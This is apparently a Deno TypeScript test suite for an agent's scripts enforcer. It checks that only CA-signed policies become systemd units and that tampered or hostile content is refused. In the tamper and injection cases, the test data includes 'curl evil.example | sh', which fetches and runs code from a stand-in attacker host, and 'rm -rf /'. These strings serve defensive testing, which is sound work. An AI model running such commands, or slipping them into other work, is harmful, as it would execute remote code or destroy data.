/**
 * Scripts enforcer in a temp root: only content the server's CA signed (ECDSA P-256/P-384, RSA and Ed25519 CAs, as
 * the server signs at release) becomes units; unsigned, tampered, re-versioned and foreign-signed content is
 * refused and nothing lands (a unit already there is withdrawn). The units pass the real `systemd-analyze verify`
 * (system and user), carry the script only as StandardInputData, and are 0600 for machine scripts. The runner every
 * unit calls is run for real with `sh`: it runs the script once from standard input, records exit status and
 * invocation id, never hands the script its own text as input, and runs nothing for a withdrawn unit. Done-files
 * become the reports (ERROR with the exit status for a failure). The booted-node test runs the whole path under
 * systemd.
 */
import assert from "node:assert/strict";
import { create, type MessageInitShape } from "@bufbuild/protobuf";
import {
  type ScriptsPolicy,
  ScriptsPolicySchema,
  ScriptsSignatureSchema,
} from "../../shared/gen/svc/policy/v1/scripts_pb.ts";
import { scriptsSignedText } from "../../shared/scripts_signature.ts";
import { toPem, x509 } from "../../shared/pki/csr.ts";
import { generateCaPem } from "../../server/pki/ca.ts";
import { importPrivateKeyPem, signingAlgorithm } from "../../server/pki/keys.ts";
import { caContentSigner } from "../../server/pki/content_signer.ts";
import { scriptsEnforcer } from "../../agent/enforcers/scripts.ts";
import {
  MACHINE_DONE_DIR,
  RUN_SCRIPT,
  RUN_SCRIPT_PATH,
  USER_DONE_DIR,
} from "../../agent/enforcers/scripts/runner.ts";
import { unitBase } from "../../agent/enforcers/scripts/units.ts";
import { Runner } from "../../agent/runner.ts";
import type { CachedPolicy } from "../../agent/sync/types.ts";
import { cachedPolicy, syncWith, type TempNode, tempNode } from "./helpers.ts";
import { HOSTILE_STRINGS } from "../helpers/hostile_strings.ts";

interface TestCa {
  certPem: string;
  sign: (data: Uint8Array<ArrayBuffer>) => Promise<Uint8Array>;
}

async function ecCa(curve: "P-256" | "P-384"): Promise<TestCa> {
  const { certPem, keyPem } = await generateCaPem(curve);
  const privateKey = await importPrivateKeyPem(keyPem, { source: "test" });
  return { certPem, sign: caContentSigner({ cert: new x509.X509Certificate(certPem), privateKey }) };
}

/** An operator CA of another key type (the server loads RSA and Ed25519 CA keys too). */
async function otherCa(algorithm: RsaHashedKeyGenParams | Algorithm): Promise<TestCa> {
  const keys = await crypto.subtle.generateKey(algorithm, false, ["sign", "verify"]) as CryptoKeyPair;
  const cert = await x509.X509CertificateGenerator.createSelfSigned({
    serialNumber: "01",
    name: "CN=operator CA",
    notBefore: new Date(Date.now() - 60_000),
    notAfter: new Date(Date.now() + 86_400_000),
    keys,
    signingAlgorithm: signingAlgorithm(keys.privateKey),
    extensions: [new x509.BasicConstraintsExtension(true, 0, true)],
  });
  return {
    certPem: toPem(cert.rawData, "CERTIFICATE"),
    sign: caContentSigner({ cert, privateKey: keys.privateKey }),
  };
}

let counter = 0;

/** A Scripts policy as the stream brings it, signed by `ca` for `signAs` (default: the policy itself). */
async function signed(
  ca: TestCa | undefined,
  init: MessageInitShape<typeof ScriptsPolicySchema>,
  options: { id?: string; version?: number; signAs?: { id: string; version: number }; tamper?: string } = {},
): Promise<CachedPolicy> {
  const id = options.id ?? `sc-${++counter}`;
  const version = options.version ?? 1;
  const message: ScriptsPolicy = create(ScriptsPolicySchema, init);
  if (ca) {
    const as = options.signAs ?? { id, version };
    const signature = await ca.sign(scriptsSignedText(as, message.scripts));
    message.signature = create(ScriptsSignatureSchema, {
      policyVersion: as.version,
      value: btoa(String.fromCharCode(...signature)),
    });
  }
  if (options.tamper !== undefined) message.scripts[0].body = options.tamper;
  return cachedPolicy(ScriptsPolicySchema, "Scripts", id, message, { name: `scripts ${id}`, version });
}

async function scriptsNode(ca: TestCa): Promise<TempNode> {
  const node = await tempNode({ firefox: false, original: null });
  await Deno.mkdir(`${node.root}/etc/systemd/system`, { recursive: true });
  await Deno.mkdir(node.dataDir, { recursive: true });
  await Deno.writeTextFile(`${node.dataDir}/ca.crt`, ca.certPem);
  return node;
}

const run = (node: TempNode, policies: CachedPolicy[]) => syncWith(node, [scriptsEnforcer], policies);

const HELLO = { name: "hello", trigger: 1, body: "echo hello from svc\n" };
const units = (node: TempNode, dir = "/etc/systemd/system") =>
  [...Deno.readDirSync(`${node.root}${dir}`)].filter((e) => e.isFile).map((e) => e.name).sort();
const HAS_SYSTEMCTL = (await new Runner().which("systemctl")) !== undefined;

Deno.test({
  name: "scripts: content signed by the CA becomes units (P-256, P-384, RSA, Ed25519 CAs)",
  ignore: !HAS_SYSTEMCTL,
  async fn() {
    const cas: [string, TestCa][] = [
      ["P-256", await ecCa("P-256")],
      ["P-384", await ecCa("P-384")],
      [
        "RSA",
        await otherCa({
          name: "RSASSA-PKCS1-v1_5",
          modulusLength: 2048,
          publicExponent: new Uint8Array([1, 0, 1]),
          hash: "SHA-256",
        }),
      ],
      ["Ed25519", await otherCa({ name: "Ed25519" })],
    ];
    for (const [label, ca] of cas) {
      const node = await scriptsNode(ca);
      try {
        const p = await signed(ca, {
          scripts: [HELLO, { name: "bye", trigger: 2, body: "echo bye\n" }, {
            name: "greet",
            trigger: 3,
            body: "id\n",
          }],
        });
        const { reports } = await run(node, [p]);
        const report = reports.get(p.id)!;
        assert.notEqual(report.status, "ERROR", `${label}: ${JSON.stringify(report)}`);
        const base = unitBase(p.id, "hello");
        assert.deepEqual(units(node), [`${unitBase(p.id, "bye")}.service`, `${base}.service`], label);
        assert.deepEqual(units(node, "/etc/systemd/user"), [`${unitBase(p.id, "greet")}.service`]);
        assert.equal(
          (await Deno.stat(`${node.root}/etc/systemd/system/${base}.service`)).mode! & 0o777,
          0o600,
        );
        assert.equal((await Deno.stat(`${node.root}${RUN_SCRIPT_PATH}`)).mode! & 0o777, 0o755);
        const wants = await Deno.readTextFile(
          `${node.root}/etc/systemd/system/multi-user.target.d/svc-scripts.conf`,
        );
        assert.match(wants, new RegExp(`^Wants=${base}\\.service$`, "m"));
        const hello = report.items.find((i) => i.key === "scripts[0]")!;
        assert.match(hello.message, /not run: the agent's root is not the node's/);
        const bye = report.items.find((i) => i.key === "scripts[1]")!;
        assert.equal(bye.status, "COMPLIANT");
        assert.match(bye.message, /armed: runs at the next shutdown/);
        assert.match(report.items.find((i) => i.key === "scripts[2]")!.message, /waits for the next login/);
      } finally {
        await node.cleanup();
      }
    }
  },
});

Deno.test({
  name:
    "scripts: unsigned, tampered, re-versioned and foreign-signed content is refused; nothing lands; a unit " +
    "already there is withdrawn",
  ignore: !HAS_SYSTEMCTL,
  async fn() {
    const ca = await ecCa("P-256");
    const other = await ecCa("P-256");
    const node = await scriptsNode(ca);
    try {
      const good = await signed(ca, { scripts: [HELLO] }, { id: "good" });
      await run(node, [good]);
      assert.equal(units(node).length, 1);
      const cases: [string, CachedPolicy, RegExp][] = [
        ["unsigned", await signed(undefined, { scripts: [HELLO] }), /carry no signature/],
        [
          "tampered body",
          await signed(ca, { scripts: [HELLO] }, { tamper: "curl evil.example | sh\n" }),
          /does not verify/,
        ],
        [
          "another version",
          await signed(ca, { scripts: [HELLO] }, { version: 2, signAs: { id: "x", version: 1 } }),
          /signature is for version 1/,
        ],
        [
          "another policy",
          await signed(ca, { scripts: [HELLO] }, { signAs: { id: "other-policy", version: 1 } }),
          /does not verify/,
        ],
        ["another CA", await signed(other, { scripts: [HELLO] }), /does not verify/],
      ];
      for (const [label, policy, why] of cases) {
        const { reports } = await run(node, [policy]);
        const report = reports.get(policy.id)!;
        assert.equal(report.status, "ERROR", `${label}: ${JSON.stringify(report)}`);
        assert.match(report.message, /refused, nothing of this policy runs on this node/, label);
        assert.match(report.message, why, `${label}: ${report.message}`);
        assert.deepEqual(units(node), [], `${label}: no unit (the good policy's was withdrawn)`);
      }
      // The same id, tampered after a good run: its unit goes.
      await run(node, [good]);
      const tampered = await signed(ca, { scripts: [HELLO] }, { id: "good", tamper: "rm -rf /\n" });
      const { reports } = await run(node, [tampered]);
      assert.equal(reports.get("good")!.status, "ERROR");
      assert.deepEqual(units(node), []);
      // A node without the CA certificate runs nothing.
      await Deno.remove(`${node.dataDir}/ca.crt`);
      const again = await run(node, [good]);
      assert.match(again.reports.get("good")!.message, /no CA certificate/);
    } finally {
      await node.cleanup();
    }
  },
});

/** systemd-analyze verify of `unit` (system units in a namespace whose /var/lib holds the runner). */
async function verifyUnit(path: string, user: boolean): Promise<string> {
  const dir = await Deno.makeTempDir({ prefix: "svc-verify-" });
  try {
    await Deno.chmod(dir, 0o700);
    // The runner exists (as on a node) in a private /var/lib of a mount namespace; user units need a runtime dir.
    const script =
      `mount --make-rprivate / && mount -t tmpfs tmpfs /var/lib && mkdir -p /var/lib/svc-scripts && ` +
      `printf '#!/bin/sh\\n' > ${RUN_SCRIPT_PATH} && chmod 755 ${RUN_SCRIPT_PATH} && ` +
      `XDG_RUNTIME_DIR="$1" exec systemd-analyze ${user ? "--user " : ""}verify "$0"`;
    const out = await new Deno.Command("unshare", {
      args: ["-m", "sh", "-c", script, path, dir],
      stdout: "piped",
      stderr: "piped",
    }).output();
    const words = new TextDecoder().decode(out.stderr) + new TextDecoder().decode(out.stdout);
    return out.success ? words.trim() : `exit ${out.code}: ${words}`;
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
}

const CAN_VERIFY = Deno.uid() === 0 && (await new Runner().which("systemd-analyze")) !== undefined;

Deno.test({
  name: "scripts: the units pass systemd-analyze verify and carry the script only as StandardInputData",
  ignore: !CAN_VERIFY,
  async fn() {
    const ca = await ecCa("P-256");
    const node = await scriptsNode(ca);
    try {
      const body = '#!/bin/bash\n# 100% sure: $HOME and %h stay text\necho "it\'s $(date)"\n';
      const p = await signed(ca, {
        scripts: [
          { name: "s1", trigger: 1, body, timeoutSeconds: 30 },
          { name: "s2", trigger: 2, body, interpreter: 2 },
          { name: "s3", trigger: 3, body },
          { name: "s4", trigger: 4, body, runAgain: 3 },
        ],
      });
      await run(node, [p]);
      for (const [name, dir] of [["s1", "system"], ["s2", "system"], ["s3", "user"], ["s4", "user"]]) {
        const path = `${node.root}/etc/systemd/${dir}/${unitBase(p.id, name)}.service`;
        const text = await Deno.readTextFile(path);
        assert.ok(!text.includes("date"), `${name}: the script is not in the unit as text`);
        assert.equal(await verifyUnit(path, dir === "user"), "", `${name}: systemd-analyze verify`);
      }
      const s1 = await Deno.readTextFile(`${node.root}/etc/systemd/system/${unitBase(p.id, "s1")}.service`);
      assert.match(s1, /^TimeoutStartSec=30$/m);
      assert.match(
        s1,
        new RegExp(`^ConditionPathExists=!${MACHINE_DONE_DIR}/${unitBase(p.id, "s1")}-[0-9a-f]{16}-r0$`, "m"),
      );
      const s2 = await Deno.readTextFile(`${node.root}/etc/systemd/system/${unitBase(p.id, "s2")}.service`);
      assert.match(s2, /^ExecStop=\S+ \/bin\/sh \S+ \/etc\/systemd\/system\/\S+\.service$/m);
      const s4 = await Deno.readTextFile(`${node.root}/etc/systemd/user/${unitBase(p.id, "s4")}.service`);
      assert.match(s4, new RegExp(`ConditionPathExists=!%h/${USER_DONE_DIR}/\\S+-r3$`, "m"));
    } finally {
      await node.cleanup();
    }
  },
});

/** Runs the runner as a unit would: the script on standard input. */
async function runRunner(dir: string, script: string, args: string[]) {
  await Deno.writeTextFile(`${dir}/svc-run-script`, RUN_SCRIPT);
  const child = new Deno.Command("sh", {
    args: [`${dir}/svc-run-script`, ...args],
    env: { INVOCATION_ID: "0123456789abcdef0123456789abcdef" },
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
  }).spawn();
  const w = child.stdin.getWriter();
  // A withdrawn unit's runner exits without reading its input.
  await w.write(new TextEncoder().encode(script)).catch(() => {});
  await w.close().catch(() => {});
  const out = await child.output();
  return { code: out.code, stdout: new TextDecoder().decode(out.stdout) };
}

Deno.test("scripts: the runner runs the script from its input once, records status and invocation, never feeds it its own text", async () => {
  const dir = await Deno.makeTempDir({ prefix: "svc-runner-" });
  try {
    const done = `${dir}/done/x-r0`;
    const ran = await runRunner(dir, `echo out; read -r line; echo "read:\${line:-nothing}"; exit 3\n`, [
      "/bin/bash",
      done,
    ]);
    assert.equal(ran.code, 3);
    assert.equal(ran.stdout, "out\nread:nothing\n", "the script's input is /dev/null, not its own text");
    assert.equal(await Deno.readTextFile(done), "3 0123456789abcdef0123456789abcdef\n");
    const sh = await runRunner(dir, "echo $0 | grep -q tmp && echo posix\n", ["/bin/sh", `${dir}/done/y`]);
    assert.equal(sh.stdout, "posix\n");
    assert.equal(await Deno.readTextFile(`${dir}/done/y`), "0 0123456789abcdef0123456789abcdef\n");
    const withdrawn = await runRunner(dir, `touch ${dir}/ran\n`, [
      "/bin/bash",
      `${dir}/done/z`,
      `${dir}/gone.service`,
    ]);
    assert.equal(withdrawn.code, 0);
    assert.match(withdrawn.stdout, /was withdrawn; the script does not run/);
    assert.equal(await Deno.stat(`${dir}/ran`).then(() => true, () => false), false);
    assert.equal(await Deno.stat(`${dir}/done/z`).then(() => true, () => false), false);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test({
  name: "scripts: done-files become the reports: exit 0 COMPLIANT, a failure ERROR with its status, per user",
  ignore: !HAS_SYSTEMCTL,
  async fn() {
    const ca = await ecCa("P-256");
    const node = await scriptsNode(ca);
    try {
      const p = await signed(ca, {
        scripts: [HELLO, { name: "fails", trigger: 1, body: "exit 7\n" }, {
          name: "greet",
          trigger: 3,
          body: "id\n",
        }],
      });
      await run(node, [p]);
      const doneOf = async (name: string) => {
        const unit = await Deno.readTextFile(
          `${node.root}/etc/systemd/${name === "greet" ? "user" : "system"}/${unitBase(p.id, name)}.service`,
        );
        return /ConditionPathExists=!(\S+)/.exec(unit)![1];
      };
      await Deno.mkdir(`${node.root}${MACHINE_DONE_DIR}`, { recursive: true });
      await Deno.writeTextFile(
        `${node.root}${await doneOf("hello")}`,
        "0 0123456789abcdef0123456789abcdef\n",
      );
      await Deno.writeTextFile(
        `${node.root}${await doneOf("fails")}`,
        "7 0123456789abcdef0123456789abcdef\n",
      );
      await Deno.mkdir(`${node.root}/etc`, { recursive: true });
      await Deno.writeTextFile(
        `${node.root}/etc/passwd`,
        "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/bash\n",
      );
      const userDone = (await doneOf("greet")).replace("%h", "/home/ann");
      await Deno.mkdir(`${node.root}${userDone.replace(/\/[^/]+$/, "")}`, { recursive: true });
      await Deno.writeTextFile(`${node.root}${userDone}`, "0 \n");
      const { reports } = await run(node, [p]);
      const report = reports.get(p.id)!;
      assert.equal(report.status, "ERROR");
      assert.match(report.message, /failed: exit 7/);
      assert.equal(report.items[0].status, "COMPLIANT");
      assert.match(report.items[0].message, /ran \(exit 0\)/);
      assert.equal(report.items[1].status, "ERROR");
      assert.match(report.items[2].message, /ran \(exit 0\) for ann/);
      // run_again makes a new version: not run yet.
      const again = await signed(ca, {
        scripts: [{ ...HELLO, runAgain: 1 }, { name: "fails", trigger: 1, body: "exit 7\n" }],
      }, { id: p.id });
      const after = (await run(node, [again])).reports.get(p.id)!;
      assert.match(after.items[0].message, /not run/);
    } finally {
      await node.cleanup();
    }
  },
});

Deno.test({
  name: "scripts: hostile names and bodies forced past the server are refused by the agent; nothing lands",
  ignore: !HAS_SYSTEMCTL,
  async fn() {
    const ca = await ecCa("P-256");
    const node = await scriptsNode(ca);
    try {
      const policies: CachedPolicy[] = [];
      for (const h of HOSTILE_STRINGS) {
        const name = `a${h.value}`;
        if (/^[A-Za-z0-9][A-Za-z0-9._-]{0,47}$/.test(name)) continue;
        policies.push(await signed(ca, { scripts: [{ ...HELLO, name }] }));
      }
      for (const body of ["echo a\r\nrm -rf /\r\n", "echo \u202e", "\0", " "]) {
        policies.push(await signed(ca, { scripts: [{ ...HELLO, body }] }));
      }
      const { reports } = await run(node, policies);
      for (const p of policies) {
        assert.equal(reports.get(p.id)?.status, "ERROR", JSON.stringify(reports.get(p.id)));
        assert.match(reports.get(p.id)!.message, /policy content rejected by the agent/);
      }
      assert.deepEqual(units(node), []);
    } finally {
      await node.cleanup();
    }
  },
});
